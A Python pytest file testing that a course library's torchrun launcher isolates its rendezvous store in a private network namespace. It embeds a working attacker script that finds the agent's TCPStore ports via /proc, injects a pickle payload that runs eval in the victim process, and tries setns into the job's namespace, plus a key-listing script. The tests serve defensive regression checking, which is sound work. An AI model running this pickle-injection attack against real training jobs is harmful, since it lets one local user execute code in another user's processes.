"""Another local user cannot reach the stores of a ``course_lib.torchrun`` job (issue 29, item 1).

The exploit as a test: while a job runs, an attacker process (as ``nobody`` when the tests run as
root, else as the same user from outside the job) is told everything the job's stores are — the
agent's listening ports, read from ``/proc/<agent>/net/tcp``, and the rendezvous id, read from the
agent's environment (where the kernel gave no private namespace, torchrun's guessable default
id, all another user could know) — and tries once per port to connect on 127.0.0.1 and to
replace the rendezvous state with a pickle that would create a marker file in the victim's
process (torchrun's agent unpickles that state on every monitor tick). The marker must never
appear and the job must finish; the attacker must have had a port to try (no vacuous pass).
On the code before the namespace (commit 145e058) the marker appeared: the attack is real.
"""
from __future__ import annotations

import json
import os
import pwd
import shutil
import subprocess
import sys
import textwrap
import threading
import time
import warnings

import psutil
import pytest

from course_lib.launcher import _private_net, _reaper, launch
from course_lib.launcher import torchrun as tr  # the module; course_lib.torchrun is the function
from course_lib.launcher.torchrun import (private_run_env, torchrun, torchrun_command,
                                          warn_shared_network)

ATTACKER = r'''
import base64, ctypes, json, os, pickle, socket, sys
from datetime import timedelta
opts = json.loads(sys.argv[1])
report = {"uid": os.getuid(), "tries": [], "wrote": False}
for port in opts["ports"]:
    try:
        socket.create_connection(("127.0.0.1", port), timeout=2).close()
    except OSError as exc:  # nothing there for us
        report["tries"].append([port, f"{type(exc).__name__}: {exc.strerror or exc}"])
        continue
    try:
        import torch.distributed as dist
        store = dist.TCPStore("127.0.0.1", port, is_master=False, wait_for_workers=False,
                              timeout=timedelta(seconds=2), use_libuv=False)
        key = "torch.rendezvous." + opts["run_id"]
        if not store.check([key]):
            report["tries"].append([port, "connected, no rendezvous key"])
            continue
        orig = base64.b64decode(store.get(key))  # the agent's pickled state
        code = (f"(open({opts['marker']!r}, 'w').write('code ran'), "
                f"__import__('pickle').loads({orig!r}))[1]")

        class Payload:  # unpickled: runs code, then returns the real state (the job goes on)
            def __reduce__(self):
                return (eval, (code,))

        store.set(key, base64.b64encode(pickle.dumps(Payload())))
        report["wrote"] = True
        report["tries"].append([port, "replaced the rendezvous state"])
    except Exception as exc:  # not a store, or it hung up
        report["tries"].append([port, f"{type(exc).__name__}: {str(exc).splitlines()[0][:120]}"])
libc = ctypes.CDLL(None, use_errno=True)
try:  # joining the job's network namespace instead
    fd = os.open(f"/proc/{opts['agent']}/ns/net", os.O_RDONLY)
    report["setns"] = "joined" if libc.setns(fd, 0x40000000) == 0 else \
        os.strerror(ctypes.get_errno())
except OSError as exc:
    report["setns"] = f"{type(exc).__name__}: {exc.strerror}"
print(json.dumps(report))
'''

JOB = textwrap.dedent("""
    import os, sys, time
    from course_lib.launcher.torchrun import init_distributed
    rank, world = init_distributed()
    folder = sys.argv[1]
    open(os.path.join(folder, f"ready{rank}"), "w").close()
    end = time.monotonic() + 90  # bounded: the test ends the wait long before
    while not os.path.exists(os.path.join(folder, "go")) and time.monotonic() < end:
        time.sleep(0.05)
    print("job done")
""")


def _as_another_user() -> tuple[list[str], str]:
    """A command prefix running as ``nobody`` when we are root, else none (the same user)."""
    if os.geteuid() == 0 and shutil.which("setpriv"):
        try:
            pwd.getpwnam("nobody")
            group = next(g for g in ("nogroup", "nobody") if _group_exists(g))
            return ["setpriv", "--reuid=nobody", f"--regid={group}", "--clear-groups"], "nobody"
        except (KeyError, StopIteration):
            pass
    return [], "the same user"


def _attack(opts: dict) -> tuple[str, dict]:
    """Run the attacker (as another user where it can run at all); ``(who, its report)``."""
    prefix, who = _as_another_user()
    for attempt in ([prefix, who], [[], "the same user"]) if prefix else ([[], who],):
        done = subprocess.run([*attempt[0], sys.executable, "-c", ATTACKER, json.dumps(opts)],
                              capture_output=True, text=True, timeout=60, cwd="/",
                              env={"PATH": os.environ.get("PATH", ""), "HOME": "/"})
        if done.returncode == 0:
            return attempt[1], json.loads(done.stdout.splitlines()[-1])
    raise AssertionError(f"the attacker could not run: {done.stderr[-2000:]}")


def _group_exists(name: str) -> bool:
    import grp
    try:
        grp.getgrnam(name)
        return True
    except KeyError:
        return False


def _listening_ports(pid: int) -> list[int]:
    """TCP ports process ``pid`` listens on, in *its* network namespace (its fds' socket inodes)."""
    inodes = set()
    for fd in os.listdir(f"/proc/{pid}/fd"):
        try:
            target = os.readlink(f"/proc/{pid}/fd/{fd}")
        except OSError:
            continue
        if target.startswith("socket:["):
            inodes.add(target[8:-1])
    ports = []
    for table in ("tcp", "tcp6"):
        with open(f"/proc/{pid}/net/{table}") as f:
            for line in f.readlines()[1:]:
                fields = line.split()
                if fields[3] == "0A" and fields[9] in inodes:  # 0A: LISTEN
                    ports.append(int(fields[1].rsplit(":", 1)[1], 16))
    return sorted(set(ports))


def _run_id(pid: int) -> str:
    with open(f"/proc/{pid}/environ", "rb") as f:
        env = dict(item.split(b"=", 1) for item in f.read().split(b"\0") if b"=" in item)
    return env.get(b"PET_RDZV_ID", b"none").decode()


def _agent_once_ranks_are_ready(folder, thread, outcome):
    """Wait (90 s at most) until both ranks of the job wrote ``ready<r>``; the torchrun agent."""
    end = time.monotonic() + 90
    while not all((folder / f"ready{r}").exists() for r in range(2)) \
            and time.monotonic() < end and thread.is_alive():
        time.sleep(0.05)
    assert all((folder / f"ready{r}").exists() for r in range(2)), outcome
    return next(p for p in psutil.Process().children(recursive=True)
                if p.cmdline()[1:3] == ["-m", "course_lib.launcher._loopback_torchrun"])


def test_another_user_cannot_inject_a_pickle_into_the_rendezvous(tmp_path, monkeypatch):
    monkeypatch.setattr(tr, "_WARNED", [], raising=False)
    script, marker = tmp_path / "job.py", tmp_path / "marker"
    script.write_text(JOB)
    folder = tmp_path / "run"
    folder.mkdir()
    outcome = {}

    def job():
        try:
            with warnings.catch_warnings(record=True) as caught:
                warnings.simplefilter("always")
                outcome["result"] = torchrun(str(script), 2, [str(folder)], quiet=True,
                                             timeout=120)
            outcome["warned"] = any("no private network" in str(w.message) for w in caught)
        except BaseException as exc:  # noqa: BLE001 — reported by the assertion below
            outcome["error"] = exc

    thread = threading.Thread(target=job)
    thread.start()
    try:
        agent = _agent_once_ranks_are_ready(folder, thread, outcome)
        ports = _listening_ports(agent.pid)
        assert ports, "the agent hosts no store: nothing to attack, the test would prove nothing"
        private = os.readlink(f"/proc/{agent.pid}/ns/net") != os.readlink("/proc/self/ns/net")
        # in a private namespace the attacker is even told the secret rendezvous id; without
        # one (the fallback), only what another user can know: torchrun's default id
        opts = {"ports": ports, "run_id": _run_id(agent.pid) if private else "none",
                "marker": str(marker), "agent": agent.pid}
        who, report = _attack(opts)
        if who == "nobody":
            assert report["uid"] == pwd.getpwnam("nobody").pw_uid
            assert report["setns"] != "joined", report
        if private:  # (a port number in the namespace may exist outside too: not ours then)
            assert not report["wrote"], report
        time.sleep(3)  # the agent re-reads the state every second (monitor tick, 1 s cache)
        assert not marker.exists(), f"{who} ran code in the job: {report}"
    finally:
        (folder / "go").touch()
        thread.join(120)
    assert "result" in outcome, outcome.get("error")
    assert outcome["result"].output.count("job done") == 2
    assert private != outcome["warned"]  # no namespace without saying so
    assert not marker.exists(), f"{who} ran code in the job: {report}"


def test_where_the_kernel_refuses_the_job_runs_where_we_are_and_says_why(monkeypatch):
    """The reaper's fallback, for real processes: enter() refused (or failing half-way, in the
    child that is then discarded) starts CMD unchanged and reports the reason."""
    def refused():
        raise _private_net.Refused(1, "unshare(CLONE_NEWUSER | ...): Operation not permitted")

    def half_way():
        raise OSError("bringing up lo: Operation not permitted")

    here = os.readlink("/proc/self/ns/net")
    cmd = [sys.executable, "-c", "import os; print(os.readlink('/proc/self/ns/net'))"]
    for broken, why in ((refused, "Operation not permitted"), (half_way, "bringing up lo")):
        monkeypatch.setattr(_private_net, "enter", broken)
        proc, status = _reaper._popen(cmd, "private")
        proc.wait(30)
        assert status.startswith("shared ") and why in status, status
    with pytest.raises(SystemExit, match="could not join the job's private network"):
        _reaper._popen(cmd, "join:999999999")  # no such process: a second node must not go on
    assert here == os.readlink("/proc/self/ns/net")


def test_the_rendezvous_id_is_random_and_off_the_command_line():
    ids = {private_run_env()["PET_RDZV_ID"] for _ in range(3)}
    assert len(ids) == 3 and all(len(i) >= 32 for i in ids)
    assert not any("rdzv-id" in part for part in torchrun_command("train.py", 2))


def test_the_shared_network_warning_comes_once(monkeypatch):
    monkeypatch.setattr(tr, "_WARNED", [])
    with pytest.warns(RuntimeWarning, match=r"no private network namespace here \(refused\).*"
                                            "every local user can connect"):
        warn_shared_network("refused")
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        warn_shared_network("refused")  # the second time: silent


# --- issue 49: where the kernel refuses a namespace, no store on the shared loopback ----------

_REFUSING = """
from course_lib.launcher import _private_net


def _refused():
    raise _private_net.Refused(1, "unshare: Operation not permitted (simulated by the test)")


_private_net.enter = _refused
"""

LISTER = r'''
import json, sys
from datetime import timedelta
import torch.distributed as dist
out = {}
for port in json.loads(sys.argv[1]):
    try:
        store = dist.TCPStore("127.0.0.1", port, is_master=False, wait_for_workers=False,
                              timeout=timedelta(seconds=2), use_libuv=False)
        out[port] = store.list_keys()
    except Exception as exc:
        out[port] = f"{type(exc).__name__}"
print(json.dumps(out))
'''


def _list_as_another_user(ports: list[int]) -> tuple[dict, str]:
    """Run LISTER as a second real user: a fresh uid (the grader's sandbox, on the host's
    network) where one can be made, else ``nobody`` or the same user (``_as_another_user``)."""
    from tools.classroom.sandbox import FIRST_UID, Sandbox, why_not
    if why_not() is None:
        uid = FIRST_UID + 999_000 + os.getpid() % 1000
        with Sandbox(uid, network=False) as box:
            done = box.run([sys.executable, "-c", LISTER, json.dumps(ports)],
                           env={"PATH": os.environ.get("PATH", ""),
                                "PYTHONPATH": os.environ.get("PYTHONPATH", "")},
                           stdin=b"", timeout=60, output_cap=1 << 20)
        lines = done["output"].decode().splitlines()
        return (json.loads(lines[-1]) if done["code"] == 0 and lines else {}), f"uid {uid}"
    prefix, who = _as_another_user()
    done = subprocess.run([*prefix, sys.executable, "-c", LISTER, json.dumps(ports)],
                          capture_output=True, text=True, timeout=60, cwd="/",
                          env={"PATH": os.environ.get("PATH", ""), "HOME": "/"})
    return (json.loads(done.stdout.splitlines()[-1]) if done.returncode == 0 else {}), who


def _refusing_env(tmp_path) -> dict:
    """Every Python process of the job (the reaper first) finds the kernel refusing."""
    hook = tmp_path / "hook"
    hook.mkdir()
    (hook / "sitecustomize.py").write_text(_REFUSING)
    return {"PYTHONPATH": os.pathsep.join([str(hook), os.environ.get("PYTHONPATH", "")])}


def test_where_namespaces_are_refused_torchrun_refuses_before_the_job_starts(tmp_path,
                                                                            monkeypatch):
    monkeypatch.delenv(tr.ALLOW_SHARED_LOOPBACK, raising=False)
    script, folder = tmp_path / "job.py", tmp_path / "run"
    script.write_text(JOB)
    folder.mkdir()
    with pytest.raises(tr.SharedLoopbackError, match=r"simulated by the test.*list_keys\(\) "
                                                     r"names every key.*runs code as you.*"
                                                     r"allow_shared_loopback=True"):
        torchrun(str(script), 2, [str(folder)], quiet=True, timeout=60,
                 env=_refusing_env(tmp_path))
    assert not list(folder.iterdir()), "a rank ran although the job was refused"
    server = launch._SERVERS._server  # this process's warm rank server (earlier tests' runs)
    own = {server.proc.pid} if server is not None and server.alive() else set()
    assert not [p for p in psutil.Process().children(recursive=True) if p.pid not in own], \
        "the refused job left a process"


def test_the_opt_in_runs_on_the_shared_loopback_where_another_user_lists_the_keys(
        tmp_path, monkeypatch):
    """What the warning and the docs say is true: with ``allow_shared_loopback=True`` and no
    namespace, another user (a fresh uid as root) connects and lists the rendezvous key."""
    monkeypatch.setattr(tr, "_WARNED", [])
    monkeypatch.delenv(tr.ALLOW_SHARED_LOOPBACK, raising=False)
    script, folder = tmp_path / "job.py", tmp_path / "run"
    script.write_text(JOB)
    folder.mkdir()
    os.chmod(tmp_path, 0o755)
    outcome = {}

    def job():
        try:
            with warnings.catch_warnings(record=True) as caught:
                warnings.simplefilter("always")
                outcome["result"] = torchrun(str(script), 2, [str(folder)], quiet=True,
                                             timeout=120, env=_refusing_env(tmp_path),
                                             allow_shared_loopback=True)
            outcome["warnings"] = [str(w.message) for w in caught]
        except BaseException as exc:  # noqa: BLE001 — reported by the assertion below
            outcome["error"] = exc

    thread = threading.Thread(target=job)
    thread.start()
    try:
        agent = _agent_once_ranks_are_ready(folder, thread, outcome)
        assert os.readlink(f"/proc/{agent.pid}/ns/net") == os.readlink("/proc/self/ns/net")
        ports = _listening_ports(agent.pid)
        listed, who = _list_as_another_user(ports)
    finally:
        (folder / "go").touch()
        thread.join(120)
    if os.environ.get("COURSE_REQUIRE_SANDBOX") == "1":  # CI, as root: a second real user
        assert who.startswith("uid "), who
    assert "result" in outcome, outcome.get("error")
    assert any("list_keys() names every key" in w for w in outcome["warnings"]), outcome
    keys = [k for v in listed.values() if isinstance(v, list) for k in v]
    assert any(k.startswith("torch.rendezvous.course_lib_") for k in keys), (who, listed)
